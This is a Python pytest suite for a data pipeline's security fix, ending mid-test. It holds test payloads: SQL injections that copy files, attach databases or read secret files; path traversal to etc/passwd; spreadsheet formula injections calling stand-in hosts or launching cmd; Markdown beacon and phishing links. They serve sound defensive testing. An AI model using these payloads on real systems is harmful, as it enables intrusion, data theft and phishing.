"""Issue 18: nothing in a source folder runs as code, reads or writes outside it, or leaks a file's
contents into the warehouse or an error message. Every payload below worked on the code before
the fix (a mapping value or a CSV header pasted into DuckDB SQL, `files:` outside the folder)."""

from __future__ import annotations

from pathlib import Path

import duckdb
import pytest

from revintel_assets.defs.ingest import expr
from revintel_assets.defs.ingest.errors import SourceError
from revintel_assets.defs.ingest.source import import_source, lock_down

SECRET = "TOPSECRET-4f1c9e"
TIDY = ("customer_id,order_date,sku,quantity,amount,Qty,UnitPrice\n"
        "C1,2024-01-05,S1,2,10.5,2,5.25\n"
        "C2,2024-02-05,S2,1,3,1,3\n"
        ",2024-03-05,S3,1,4,1,4\n")  # missing customer_id: quarantined, so raw_row_sql runs


@pytest.fixture
def box(tmp_path) -> dict[str, Path]:
    """A source folder, a secret file beside it (outside it) and paths a payload would write."""
    src = tmp_path / "src"
    src.mkdir()
    (src / "transactions.csv").write_text(TIDY)
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "secret.csv"
    secret.write_text(f"{SECRET},b\n1,2\n")
    return {"src": src, "secret": secret, "out": tmp_path / "pwned.csv", "db": tmp_path / "other.duckdb",
            "tmp": tmp_path}


def _mapping(src: Path, body: str) -> Path:
    path = src / "revintel_mapping.yaml"
    path.write_text(body)
    return path


def _line_of(path: Path, needle: str) -> int:
    return next(i for i, line in enumerate(path.read_text().splitlines(), 1) if needle in line)


def _everything(con) -> str:
    """Every value of every table of the connection, as text (to look for the secret)."""
    out = []
    for schema, table in con.execute("SELECT schema_name, table_name FROM duckdb_tables()").fetchall():
        out.append(str(con.execute(f'SELECT * FROM "{schema}"."{table}"').fetchall()))
    return "\n".join(out)


def _import(src: Path, con=None):
    con = con or duckdb.connect()
    return con, import_source(con, src)


def _yaml_str(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


# -- mapping values are column names or a small grammar, never SQL --------------------------------

PAYLOADS = {
    "copy_to": "1)::VARCHAR; COPY (SELECT 42) TO '{out}' (FORMAT csv); SELECT (1",
    "copy_plain": "COPY (SELECT 1) TO '{out}'",
    "read_text": "(SELECT content FROM read_text('{secret}'))",
    "attach": "1)::VARCHAR; ATTACH '{db}' AS o; CREATE TABLE o.t AS SELECT 1 AS x; SELECT (1",
    "drop": "1)::VARCHAR; DROP TABLE temp.raw_tidy; SELECT (1",
    "comment": "amount --",
    "other_function": "getenv('HOME')",
}


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_mapping_payload_is_rejected_with_file_and_line(box, name):
    payload = PAYLOADS[name].format(out=box["out"], secret=box["secret"], db=box["db"])
    path = _mapping(box["src"], f"layout: tidy\ncolumns:\n  customer_id: customer_id\n"
                                f"  amount: {_yaml_str(payload)}\n")
    con = duckdb.connect()
    with pytest.raises(SourceError) as err:
        import_source(con, box["src"])
    assert err.value.path == path and err.value.line == _line_of(path, "amount:") == 4
    assert "column name" in err.value.expected
    assert SECRET not in str(err.value)
    assert not box["out"].exists() and not box["db"].exists()
    assert SECRET not in _everything(con)



def tiny_job():
    """A one-op Dagster job: runs to create, fail and recover in an instance."""
    import dagster as dg

    @dg.op
    def step():
        return 1

    @dg.job
    def tiny():
        step()
    return tiny

def test_expression_grammar_still_maps_real_exports(box):
    """`Quantity * UnitPrice` (the README's example; before the fix it failed on the all-text staging
    table) and the Online Retail mapping's try_cast form give the same amounts."""
    for value in ("Qty * UnitPrice", "try_cast(Qty AS DOUBLE) * try_cast(UnitPrice AS DOUBLE)",
                  '"Qty" * ("UnitPrice" + 0) / 1'):
        _mapping(box["src"], f"layout: tidy\ncolumns:\n  amount: {_yaml_str(value)}\n")
        con, _ = _import(box["src"])
        assert con.execute("SELECT customer_id, amount FROM staging.transactions ORDER BY 1").fetchall() == \
            [("C1", 10.5), ("C2", 3.0)], value


def test_expression_compiles_to_quoted_identifiers_only():
    assert expr.compile_expr("Quantity * UnitPrice") == \
        '(try_cast("Quantity" AS DOUBLE) * try_cast("UnitPrice" AS DOUBLE))'
    assert expr.compile_expr('-"a""b" + 1.5e2') == '((- try_cast("a""b" AS DOUBLE)) + 150.0)'
    assert expr.compile_expr("a -- b") == '(try_cast("a" AS DOUBLE) - (- try_cast("b" AS DOUBLE)))'  # not a comment
    for bad in ("a; DROP TABLE x", "read_text('x')", "a /* x */", "(a", "a b", "try_cast(a AS BLOB)",
                "x'41'", "a::VARCHAR", "$1", "a\nb", "1e999"):
        with pytest.raises(expr.ExprError):
            expr.compile_expr(bad)
    with pytest.raises(expr.ExprError, match="no column 'nope'"):
        expr.compile_expr("nope * 2", ["a"])


def test_unknown_column_in_expression_names_mapping_line(box):
    path = _mapping(box["src"], "layout: tidy\ncolumns:\n  quantity: Qty\n  amount: Qty * Price\n")
    with pytest.raises(SourceError) as err:
        _import(box["src"])
    assert err.value.path == path and err.value.line == 4 and "no column 'Price'" in str(err.value)


def test_a_spaced_column_name_in_an_expression_is_told_to_be_quoted(box):
    (box["src"] / "transactions.csv").write_text(
        "customer_id,order_date,sku,Qty,Unit Price\nC1,2024-01-05,S1,2,10.5\n")
    path = _mapping(box["src"], "layout: tidy\ncolumns:\n  quantity: Qty\n  amount: Unit Price * Qty\n")
    with pytest.raises(SourceError) as err:
        _import(box["src"])
    assert err.value.path == path and err.value.line == 4
    assert 'goes in double quotes: "Unit Price"' in str(err.value)
    _mapping(box["src"], 'layout: tidy\ncolumns:\n  quantity: Qty\n  amount: \'"Unit Price" * Qty\'\n')
    con, _ = _import(box["src"])
    assert con.execute("SELECT amount FROM staging.transactions").fetchall() == [(21.0,)]


def test_header_names_with_spaces_and_brackets_still_map(box):
    (box["src"] / "transactions.csv").write_text(
        "Customer No,order_date,sku,quantity,Amount (EUR)\nC1,2024-01-05,S1,2,10.5\n")
    _mapping(box["src"], "columns:\n  customer_id: Customer No\n  amount: Amount (EUR)\n")
    con, _ = _import(box["src"])
    assert con.execute("SELECT customer_id, amount FROM staging.transactions").fetchall() == [("C1", 10.5)]


# -- files: stay inside the source folder ---------------------------------------------------------

def _crm(src: Path, target: str) -> Path:
    return _mapping(src, f"files:\n  sales_pipeline.csv: {_yaml_str(target)}\n")


@pytest.mark.parametrize("kind", ["dotdot", "etc_passwd", "absolute"])
def test_files_entry_outside_the_folder_is_refused(box, kind):
    src = box["src"]
    target = {"dotdot": "../outside/secret.csv",
              "etc_passwd": "../" * len(src.resolve().parts) + "etc/passwd",
              "absolute": str(box["secret"])}[kind]
    path = _crm(src, target)
    con = duckdb.connect()
    with pytest.raises(SourceError) as err:
        import_source(con, src)
    assert err.value.path == path and err.value.line == 2
    assert "inside the source folder" in err.value.expected
    message = str(err.value)
    assert SECRET not in message and "root:" not in message
    assert SECRET not in _everything(con)


def test_symlink_out_of_the_folder_is_refused(box):
    (box["src"] / "transactions.csv").unlink()
    (box["src"] / "sales_pipeline.csv").symlink_to(box["secret"])
    con = duckdb.connect()
    with pytest.raises(SourceError) as err:
        import_source(con, box["src"])
    assert "sales_pipeline.csv" in str(err.value) and SECRET not in str(err.value)
    assert SECRET not in _everything(con)


def test_files_entry_inside_the_folder_still_works(box):
    (box["src"] / "exports").mkdir()
    (box["src"] / "transactions.csv").rename(box["src"] / "exports" / "tx_2024.csv")
    _mapping(box["src"], "layout: tidy\nfiles:\n  transactions.csv: exports/tx_2024.csv\n")
    con, report = _import(box["src"])
    assert con.execute("SELECT count(*) FROM staging.transactions").fetchone()[0] == 2


# -- a CSV header is data ------------------------------------------------------------------------

@pytest.mark.parametrize("header", [
    'a") || read_text(\'/etc/hostname\') || ("',             # the payload
    'x", (SELECT content FROM read_text(\'{secret}\'))) || coalesce("x',  # one that worked
])
def test_hostile_csv_header_stays_a_name(box, header):
    header = header.format(secret=box["secret"])
    quoted = '"' + header.replace('"', '""') + '"'
    (box["src"] / "transactions.csv").write_text(
        f"customer_id,order_date,sku,quantity,amount,x,{quoted}\n"
        "C1,2024-01-05,S1,2,10.5,,v\n"
        ",2024-03-05,S3,1,4,,w\n")
    con, report = _import(box["src"])
    rows = con.execute("SELECT line_number, raw_row, reason FROM staging.quarantine_new").fetchall()
    assert rows == [(3, ",2024-03-05,S3,1,4,,w", "customer_id is empty: the line cannot be attributed to an account")]
    hostname = Path("/etc/hostname").read_text().strip() if Path("/etc/hostname").exists() else SECRET
    everything = _everything(con)
    assert SECRET not in everything
    assert hostname not in everything.replace(header, "")


# -- the second door: the import connection cannot touch other files ------------------------------

def test_import_connection_is_locked_down(box, monkeypatch):
    """Even SQL that slipped past the grammar cannot write, read or attach outside the folder."""
    con = duckdb.connect()
    lock_down(con, box["src"])
    assert con.execute(f"SELECT count(*) FROM read_csv('{box['src'] / 'transactions.csv'}')").fetchone()[0] == 3
    for sql in (f"COPY (SELECT 1) TO '{box['out']}'", f"SELECT * FROM read_text('{box['secret']}')",
                f"ATTACH '{box['db']}' AS o", "SET enable_external_access = true",
                "SET allowed_directories = ['/']", "SET lock_configuration = false",
                f"SELECT * FROM read_text('{box['src']}/../outside/secret.csv')"):
        with pytest.raises(duckdb.Error):
            con.execute(sql)
    assert not box["out"].exists() and not box["db"].exists()

    # a compiler bug that let SQL through: the import still cannot write outside
    monkeypatch.setattr(expr, "compile_expr", lambda text, available=None, number=None:
                        f"1)::VARCHAR; COPY (SELECT 42) TO '{box['out']}'; SELECT (1")
    _mapping(box["src"], "layout: tidy\ncolumns:\n  amount: Qty * UnitPrice\n")
    with pytest.raises((SourceError, duckdb.Error)):
        import_source(duckdb.connect(), box["src"])
    assert not box["out"].exists()


# -- one run per data directory ---------------------------------------------------------------------

REPO = Path(__file__).resolve().parents[1]


def _cli_env(data: Path) -> dict[str, str]:
    import os

    env = {k: v for k, v in os.environ.items()
           if k not in ("DAGSTER_HOME", "REVINTEL_AS_OF", "REVINTEL_SOURCE", "REVINTEL_MAPPING")}
    return {**env, "REVINTEL_DATA_DIR": str(data), "PYTHONPATH": str(REPO)}


def _tidy_source(folder: Path, customers: int = 3) -> Path:
    folder.mkdir(parents=True)
    rows = [f"C{c},2024-{m:02d}-05,S{c % 2},1,{10 + c}" for c in range(customers) for m in range(1, 13)]
    (folder / "transactions.csv").write_text("customer_id,order_date,sku,quantity,amount\n" + "\n".join(rows) + "\n")
    return folder


def test_second_run_on_one_data_dir_refuses_at_once(tmp_path):
    """Two real `revintel run` processes on one data directory with different sources: the second,
    with --no-wait, exits 3 with one line naming the first one's pid; when the first dies (SIGKILL)
    the lock is free."""
    import os
    import signal
    import subprocess
    import sys
    import time

    from revintel_resources.runlock import run_lock

    data = tmp_path / "data"
    cmd = [sys.executable, "-m", "revintel_assets.cli", "run", "--no-serve", "--source"]
    first = subprocess.Popen(cmd + [str(_tidy_source(tmp_path / "a"))], cwd=REPO, env=_cli_env(data),
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        deadline = time.monotonic() + 120
        lock = data / ".run.lock"
        while not (lock.exists() and lock.read_text().startswith(f"pid {first.pid},")):
            assert first.poll() is None and time.monotonic() < deadline, "the first run never took the lock"
            time.sleep(0.2)
        start = time.monotonic()
        second = subprocess.run(cmd[:-1] + ["--no-wait", "--source", str(_tidy_source(tmp_path / "b"))], cwd=REPO,
                                env=_cli_env(data),
                                capture_output=True, text=True, timeout=120)
        took = time.monotonic() - start
        assert first.poll() is None, "the first run ended before the second was tried"
    finally:
        os.killpg(first.pid, signal.SIGKILL)
        first.wait()
    assert second.returncode == 3, second.stderr[-2000:]
    lines = second.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("revintel: another revintel run (pid ") \
        and f"pid {first.pid}," in lines[0], second.stderr
    assert "Traceback" not in second.stderr and "materializing" not in second.stdout
    assert took < 60
    with run_lock(data):  # the kernel dropped the killed run's lock
        pass


def test_a_second_run_waits_for_the_first(tmp_path):
    """Without --no-wait the second run says once who holds the data directory and waits: here the
    lock is held by another process for 2 s, then released; the waiter gets it afterwards."""
    import subprocess
    import sys
    import time

    from revintel_resources.runlock import run_lock

    data = tmp_path / "data"
    holder = subprocess.Popen([sys.executable, "-c", "import sys, time; from revintel_resources.runlock import "
                               "run_lock\nwith run_lock(sys.argv[1], 'test holder'):\n print('held', flush=True)\n"
                               " time.sleep(2)", str(data)], cwd=REPO, stdout=subprocess.PIPE, text=True)
    assert holder.stdout.readline().strip() == "held"
    said, start = [], time.monotonic()
    with run_lock(data, wait=True, say=said.append, poll_s=0.1):
        waited = time.monotonic() - start
    holder.wait(timeout=30)
    assert len(said) == 1 and f"pid {holder.pid}, test holder since" in said[0] and "--no-wait" in said[0]
    assert 1.0 < waited < 20


# -- a copied data directory is independent of its original -----------------------------------------

def _snapshot(root: Path) -> dict[str, str]:
    import hashlib

    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()}


def test_copied_data_dir_writes_only_into_itself(tmp_path):
    """Dagster (dagster.yaml base_dirs) and MLflow (artifact locations of experiments, runs,
    logged models, model versions) of a copy write into the copy; the original is untouched."""
    import shutil

    import dagster as dg
    import mlflow.pyfunc

    from revintel_resources.instance import ensure_dagster_home
    from revintel_resources.tracking import MLflowResource

    class Constant(mlflow.pyfunc.PythonModel):
        def predict(self, context, model_input, params=None):
            return [1] * len(model_input)

    tiny = tiny_job()

    def use(data: Path, tag: str) -> str:
        instance = dg.DagsterInstance.from_config(str(ensure_dagster_home(data / "dagster_home")))
        try:
            assert tiny.execute_in_process(instance=instance, tags={"which": tag}).success
        finally:
            instance.dispose()
        ml = MLflowResource(data_dir=str(data))
        with ml.run("relocation", f"run {tag}") as run:
            run.log_features(["a", tag])
            uri = run.log_model(Constant())
        version = ml.register(uri, "revintel-relocation", tags={"run_id": run.run_id})
        ml.set_alias("revintel-relocation", "champion", version)
        assert ml.load_model("models:/revintel-relocation@champion").predict([0, 0]) == [1, 1]
        return run.run_id

    original, copy = tmp_path / "original", tmp_path / "copy"
    use(original, "first")
    shutil.copytree(original, copy)
    before = _snapshot(original)
    run_id = use(copy, "second")
    assert _snapshot(original) == before
    assert any(run_id in str(p) for p in (copy / "mlflow" / "artifacts").rglob("features.json"))
    assert str(original) not in (copy / "dagster_home" / "dagster.yaml").read_text()
    import sqlite3

    con = sqlite3.connect(copy / "mlflow" / "mlflow.db")
    stored = str(con.execute("SELECT group_concat(artifact_location) FROM experiments").fetchall()
                 + con.execute("SELECT group_concat(artifact_uri) FROM runs").fetchall()
                 + con.execute("SELECT group_concat(storage_location) FROM model_versions").fetchall())
    con.close()
    assert str(original) not in stored and str(copy) in stored
    assert "mlruns" not in stored  # the Default experiment lives under the data directory too


# -- clean failures ------------------------------------------------------------------------------

def test_utf16_exports_are_read_not_called_binary(box):
    """Excel's 'Unicode text' is UTF-16 LE: read (with or without BOM), same rows as UTF-8;
    big-endian is named as UTF-16 (before: 'binary content ... a spreadsheet or archive')."""
    (box["src"] / "transactions.csv").unlink()
    utf8 = TIDY.replace("S2", "Sé")
    expected = None
    for enc in ("utf-8", "utf-16", "utf-16-le"):
        (box["src"] / "transactions.csv").write_bytes(utf8.encode(enc))
        con, report = _import(box["src"])
        got = (con.execute("SELECT * EXCLUDE (source_file) FROM staging.transactions ORDER BY _line").fetchall(),
               con.execute("SELECT line_number, raw_row, reason FROM staging.quarantine_new").fetchall())
        expected = expected or got
        assert got == expected and ("C2", "Sé") in [(r[0], r[3]) for r in got[0]], enc
    (box["src"] / "transactions.csv").write_bytes(b"\xfe\xff" + utf8.encode("utf-16-be"))
    with pytest.raises(SourceError, match="UTF-16 big-endian; save it as UTF-8") as err:
        _import(box["src"])
    assert "binary" not in str(err.value)


def test_first_source_error_in_the_chain_wins():
    from revintel_assets.cli import _root_cause

    class StepError(Exception):  # as Dagster wraps a step's exception
        def __init__(self, user_exception):
            super().__init__("step failed")
            self.user_exception = user_exception

    try:
        try:
            raise OSError(5, "library failure")
        except OSError as exc:
            raise SourceError("f.csv", 3, "a CSV", "unreadable") from exc
    except SourceError as exc:
        wrapped = StepError(exc)
        wrapped.__cause__ = exc
    assert isinstance(_root_cause(wrapped), SourceError)
    assert isinstance(_root_cause(StepError(ValueError("x"))), ValueError)


def _cli(args: list[str], data: Path, timeout: float = 300):
    import subprocess
    import sys

    return subprocess.run([sys.executable, "-m", "revintel_assets.cli", *args], cwd=REPO, env=_cli_env(data),
                          capture_output=True, text=True, timeout=timeout)


def test_source_error_from_a_library_error_exits_2(tmp_path):
    """A SourceError raised from DuckDB's error (here: a delimiter DuckDB refuses) is the one
    line the user sees, exit 2 (before: exit 1 and DuckDB's traceback)."""
    src = _tidy_source(tmp_path / "src")
    (src / "revintel_mapping.yaml").write_text("delimiter: '\"'\n")
    # a header holding it (a file whose header holds none of the mapping's delimiter is read with its own)
    (src / "transactions.csv").write_text('"customer_id"' + (src / "transactions.csv").read_text()[len("customer_id"):])
    proc = _cli(["run", "--no-serve", "--source", str(src)], tmp_path / "data")
    assert proc.returncode == 2, proc.stderr[-3000:]
    lines = [line for line in proc.stderr.splitlines() if line.startswith("revintel:")]
    assert len(lines) == 1 and lines[0].startswith("revintel: cannot import the source: ") \
        and "transactions.csv, line 1" in lines[0], proc.stderr[-3000:]
    assert "Traceback" not in proc.stderr and "Stack Trace" not in proc.stderr


def test_storage_failure_is_one_line_exit_1(monkeypatch, capsys):
    """Simulated: a step fails with ENOSPC (as Dagster wraps it) -> one line, exit 1."""
    import errno

    import revintel_assets.definitions as definitions
    import revintel_assets.orchestrate as orchestrate
    from revintel_assets import cli

    class StepError(Exception):
        def __init__(self, user_exception):
            super().__init__("step failed")
            self.user_exception = user_exception

    def full(*args, **kwargs):
        raise StepError(OSError(errno.ENOSPC, "No space left on device", "/data/warehouse/.work/x.wal"))

    monkeypatch.setattr(definitions, "load", lambda: None)
    monkeypatch.setattr(orchestrate, "materialize_all", full)
    assert cli.main(["run", "--no-serve", "--source", str(REPO)]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "the disk is full" in err[0] and "unchanged" in err[0], err

    def duck(*args, **kwargs):
        raise StepError(duckdb.IOException('IO Error: Could not write file "x.duckdb": Read-only file system'))

    monkeypatch.setattr(orchestrate, "materialize_all", duck)
    assert cli.main(["run", "--no-serve", "--source", str(REPO)]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "read-only" in err[0], err


@pytest.mark.parametrize("case", ["full", "read_only"])
def test_real_full_disk_and_read_only_warehouse(tmp_path, case):
    """A small tmpfs as the data directory (disk full) or a read-only one as its warehouse/, where
    this machine lets the test mount one: one `revintel:` line, exit 1, no traceback."""
    import subprocess

    data = tmp_path / "data"
    mnt = data if case == "full" else data / "warehouse"
    mnt.mkdir(parents=True)
    opts = "size=3m" if case == "full" else "ro,size=64k"
    if subprocess.run(["mount", "-t", "tmpfs", "-o", opts, "tmpfs", str(mnt)], capture_output=True).returncode:
        pytest.skip("cannot mount a tmpfs here (not root?); test_storage_failure_is_one_line_exit_1 simulates it")
    try:
        proc = _cli(["run", "--no-serve", "--source", str(_tidy_source(tmp_path / "src"))], data)
    finally:
        subprocess.run(["umount", str(mnt)], check=True)
    assert proc.returncode == 1, proc.stderr[-3000:]
    lines = [line for line in proc.stderr.splitlines() if line.startswith("revintel:")]
    assert "Traceback" not in proc.stderr, proc.stderr[-3000:]
    assert len(lines) == 1 and lines[0].startswith("revintel: cannot write the data directory") and \
        ("disk is full" if case == "full" else "read-only") in lines[0], lines


def test_over_long_line_names_the_line_and_the_limit(box):
    """A 5 MB field: before, 'CSV Error on Line: 1' (DuckDB's first message line, wrong line)."""
    (box["src"] / "transactions.csv").write_text(
        "customer_id,order_date,sku,quantity,amount\nC1,2024-01-05,S1,2,10.5\n"
        f"C2,2024-01-05,{'x' * (5 << 20)},2,10.5\nC3,2024-01-05,S1,2,10.5\n")
    with pytest.raises(SourceError) as err:
        _import(box["src"])
    assert err.value.line == 3 and "lines of at most 2,000,000 bytes" in err.value.expected
    assert "xxxx" not in str(err.value) and len(str(err.value)) < 400


def test_stale_publish_copy_is_removed_at_the_next_start(tmp_path):
    from revintel_resources.warehouse import Warehouse

    wh = Warehouse(tmp_path / ".work" / "w.duckdb", tmp_path / ".work" / "writer.lock", tmp_path / "revintel.duckdb")
    wh.execute("CREATE TABLE t AS SELECT 1 AS x")
    wh.publish()
    stale = tmp_path / ".revintel.duckdb.999999.deadbeef.tmp"  # a publish killed before its rename
    stale.write_bytes(b"x" * 1000)
    assert wh.remove_stale_publish_files() == [stale] and not stale.exists()
    stale.write_bytes(b"x")
    wh.publish()
    assert not stale.exists() and (tmp_path / "revintel.duckdb").exists()


def test_run_killed_before_it_started_is_marked_failed(tmp_path):
    import subprocess
    import sys

    import dagster as dg

    from revintel_resources.instance import PID_TAG, ensure_dagster_home, recover_dead_runs

    tiny = tiny_job()

    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    instance = dg.DagsterInstance.from_config(str(ensure_dagster_home(tmp_path / "dagster_home")))
    try:
        run = instance.create_run_for_job(job_def=tiny, tags={PID_TAG: str(dead.pid)})
        untagged = instance.create_run_for_job(job_def=tiny)  # e.g. the UI's: not ours to judge
        assert instance.get_run_by_id(run.run_id).status == dg.DagsterRunStatus.NOT_STARTED
        assert recover_dead_runs(instance) == [run.run_id]
        assert instance.get_run_by_id(run.run_id).status == dg.DagsterRunStatus.FAILURE
        assert instance.get_run_by_id(untagged.run_id).status == dg.DagsterRunStatus.NOT_STARTED
    finally:
        instance.dispose()


def test_a_finished_run_holding_a_pool_slot_frees_it(tmp_path):
    """An audit: a run killed with SIGKILL was marked FAILURE by Dagster but kept its `warehouse` slot, and
    every later warehouse run queued for ever, across `revintel ui` restarts. recover_dead_runs frees the
    slots of finished runs, and a dagster.yaml of an older data directory gains
    free_slots_after_run_end_seconds (the daemon's own release)."""
    import dagster as dg

    from revintel_resources.instance import ensure_dagster_home, recover_dead_runs

    tiny = tiny_job()

    home = tmp_path / "dagster_home"
    home.mkdir()
    old = ("run_monitoring:\n  enabled: true\n  poll_interval_seconds: 30\n"
           "concurrency:\n  pools:\n    default_limit: 1\n")
    (home / "dagster.yaml").write_text(old)
    ensure_dagster_home(home)
    assert "free_slots_after_run_end_seconds: 60" in (home / "dagster.yaml").read_text()
    instance = dg.DagsterInstance.from_config(str(home))
    try:
        storage = instance.event_log_storage
        storage.set_concurrency_slots("warehouse", 1)
        run = instance.create_run_for_job(job_def=tiny)
        live = instance.create_run_for_job(job_def=tiny)
        assert storage.claim_concurrency_slot("warehouse", run.run_id, "revenue_forecast").is_claimed
        instance.report_run_failed(run, message="terminated by signal 9 (SIGKILL)")
        assert run.run_id in recover_dead_runs(instance)
        assert storage.get_concurrency_info("warehouse").active_slot_count == 0
        assert storage.claim_concurrency_slot("warehouse", live.run_id, "deal_scores").is_claimed
        assert live.run_id not in recover_dead_runs(instance)  # a run not finished keeps its slot
        assert storage.get_concurrency_info("warehouse").active_slot_count == 1
    finally:
        instance.dispose()


def test_motherduck_token_is_not_in_repr():
    from revintel_resources.backends import Backend
    from revintel_resources.settings import Settings

    token = "md-token-5ecret"
    backend = Backend("motherduck", database="md:revintel", config={"motherduck_token": token}, local_file=False)
    assert token not in repr(backend) and token not in str(backend) and "md:revintel" in repr(backend)
    settings = Settings(motherduck_token=token)
    assert settings.motherduck_token == token and token not in repr(settings) and token not in str(settings)


def test_division_that_cannot_be_a_partition_key_stops_the_import(box):
    """Before: imported, and the run failed at step 7 (icp) after six steps published nothing."""
    (box["src"] / "sku_map.csv").write_text("sku,division\nS1,Hardware\nS2,Hard|ware\n")
    with pytest.raises(SourceError) as err:
        _import(box["src"])
    assert err.value.path.name == "sku_map.csv" and err.value.line == 3 and "Hard|ware" in str(err.value)


# -- safe outputs ----------------------------------------------------------------------------------

def test_csv_downloads_neutralise_formulas():
    import polars as pl

    from dashboards import safe

    df = pl.DataFrame({"account": ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
                                   "-2+3", "\tx", "Acme - West", "O'Neil"],
                       "amount": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0]})
    out = pl.read_csv(safe.csv_bytes(df))
    assert out["account"].to_list() == ["'=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "'+cmd|' /C calc'!A0",
                                        "'@SUM(A1:A9)", "'-2+3", "'\tx", "Acme - West", "O'Neil"]
    assert out["amount"].to_list() == df["amount"].to_list()  # numbers are not text


def test_every_dashboard_download_goes_through_the_neutraliser():
    views = REPO / "dashboards"
    offenders = [str(p.relative_to(REPO)) for p in views.rglob("*.py")
                 if "download_button" in p.read_text() and "write_csv()" in p.read_text()]
    assert offenders == []


def test_the_grids_show_formulas_as_text_for_their_own_csv_download():
    """An audit: Streamlit's "Download as CSV" on Plan's table wrote a deal id =HYPERLINK(...) as a live
    formula. Every grid goes through safe.dataframe; a signed number written as text stays as it is."""
    import polars as pl

    from dashboards import safe

    df = pl.DataFrame({"deal": ['=HYPERLINK("http://evil/";"x")', "@SUM(A1)", "-2+3", "-$1,500", "+12 %", "O-1"]})
    assert safe.shown(df)["deal"].to_list() == ["'=HYPERLINK(\"http://evil/\";\"x\")", "'@SUM(A1)", "'-2+3",
                                                "-$1,500", "+12 %", "O-1"]
    import pandas as pd
    from streamlit.testing.v1 import AppTest

    def page():
        import pandas as pd
        import polars as pl

        from dashboards import safe

        safe.dataframe(pl.DataFrame({"manager": ['=HYPERLINK("http://evil/")']}))
        safe.dataframe(pd.DataFrame({"manager": ['=HYPERLINK("http://evil/")']}))  # a re-check: pandas got through

    app = AppTest.from_function(page).run()
    assert [g.value["manager"][0] for g in app.dataframe] == ["'=HYPERLINK(\"http://evil/\")"] * 2
    assert isinstance(app.dataframe[1].value, pd.DataFrame)
    direct = [str(p.relative_to(REPO)) for p in (REPO / "dashboards").rglob("*.py")
              if "st.dataframe(" in p.read_text() and p.name != "safe.py"
              and "safe.shown(" not in p.read_text()]
    assert direct == []


def test_streamlit_binds_localhost_and_hides_tracebacks():
    import tomllib

    config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text())
    assert config["server"]["address"] == "127.0.0.1"
    assert config["client"]["showErrorDetails"] == "none"


def test_markdown_escaping_keeps_text_and_drops_syntax():
    from dashboards.safe import code, md

    payload = "![b](http://evil.example/beacon.png) [verify](http://phish.example) :red[x] $x$ www.evil.example"
    escaped = md(payload)
    assert "](" not in escaped and "http://" not in escaped and "www.evil" not in escaped
    assert escaped.replace("\\", "").replace("\u200b", "") == payload  # shown as written
    assert md("Acme\n# Header") == r"Acme \# Header"
    assert code("a`b") == "`` a`b ``" and code("x") == "` x `"


@pytest.mark.browser
def test_deal_page_shows_hostile_data_and_url_as_text(tmp_path):
    """An account name, a recommended action and a ?deal= parameter written as Markdown image and
    link: shown as text, no <img> or <a> to them in the page (before: an image beacon and a
    phishing link rendered)."""
    from urllib.parse import quote

    from browser import build_analyst_db, chromium, streamlit_server
    from test_deal_pages import AS_OF, FIXTURE, open_page

    beacon, phish = "http://127.0.0.1:9/beacon.png", "http://phish.example/login"
    name = f"Cancore ![b]({beacon}) [verify account]({phish})"
    data_dir = tmp_path / "data"
    build_analyst_db(data_dir, extra_sql=[
        *FIXTURE,
        f"UPDATE star.dim_account SET account_name = '{name}' WHERE account_id = 'A3'",
        f"UPDATE scores.deal_scores SET recommended_action = '[Call now]({phish})' WHERE opportunity_id = 'O6'"])
    wanted = quote(f"x` ![b]({beacon}) [click]({phish}) `y")
    with streamlit_server(data_dir) as url, chromium() as browser:
        ctx = browser.new_context()
        page = ctx.new_page()
        try:
            for path, expect in ((f"deal-detail?as_of={AS_OF}&deal=O6", "What moved the win probability"),
                                 (f"deal-detail?as_of={AS_OF}&deal={wanted}", "is not among the deals open")):
                for _ in range(2):  # the first visit may show "Page not found" (streamlit#9992)
                    page.goto(f"{url}/{path}", wait_until="domcontentloaded")
                    page.wait_for_selector(f"text={expect}", timeout=60_000)
                    if not page.locator("[role='dialog']", has_text="Page not found").count():
                        break
                links = page.evaluate("() => [...document.querySelectorAll('a[href], img[src]')]"
                                      ".map(e => e.href || e.src)")
                assert not [h for h in links if h.startswith((beacon, phish))], links
                text = page.locator("body").inner_text().replace("\u200b", "")
                assert "Traceback" not in text
            assert f"[click]({phish})" in text  # the URL parameter, as text
        finally:
            ctx.close()
        _, text, _ = open_page(browser, url, f"deal-detail?as_of={AS_OF}&deal=O6", name="deal_hostile",
                               expect_text="What moved the win probability")
        text = text.replace("\u200b", "")
        assert f"[verify account]({phish})" in text and f"[Call now]({phish})" in text


# -- what a run started by the sensor, a schedule or the UI may read -------------------------------

def _import_with(tmp_path, monkeypatch, folder, tags, **env):
    import dagster as dg

    from revintel_assets.defs.ingest.assets import source_import
    from revintel_resources.resources import WarehouseResource
    from revintel_resources.source import SourceResource

    monkeypatch.setenv("REVINTEL_DATA_DIR", str(tmp_path / "data"))
    for k, v in env.items():
        monkeypatch.setenv(k, v)
    from revintel_resources.tracking import MLflowResource

    return dg.materialize([source_import], tags=tags, raise_on_error=False,  # an ephemeral instance
                          resources={"warehouse": WarehouseResource(), "source": SourceResource(path=str(folder)),
                                     "mlflow_tracking": MLflowResource()})


def _failure(result) -> str:
    """The user error's own message (Dagster wraps it: the cause holds it)."""
    err = result.get_step_failure_events()[0].event_specific_data.error
    assert err.cause is not None and err.cause.cls_name == "SourceError", err
    return err.cause.message


def test_a_folder_mapping_needs_a_person_or_the_opt_in(tmp_path, monkeypatch):
    folder = _tidy_source(tmp_path / "src")
    (folder / "revintel_mapping.yaml").write_text("delimiter: ','\n")
    unattended = _import_with(tmp_path, monkeypatch, folder, {"revintel/trigger": "source files"})
    assert not unattended.success
